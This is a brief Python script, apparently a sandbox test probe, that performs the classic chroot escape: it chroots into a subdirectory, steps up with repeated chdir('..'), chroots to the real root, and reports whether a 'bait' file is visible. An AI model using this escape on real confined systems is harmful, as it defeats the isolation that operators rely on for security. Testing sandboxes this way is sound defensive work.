"""The old way out of a chroot: another chroot below, then up."""

import os

import bait

try:
    os.mkdir("jail")
except OSError:
    pass
os.chroot("jail")
for _ in range(50):
    os.chdir("..")
os.chroot(".")
print("ESCAPED:", os.path.exists(bait.FILE))
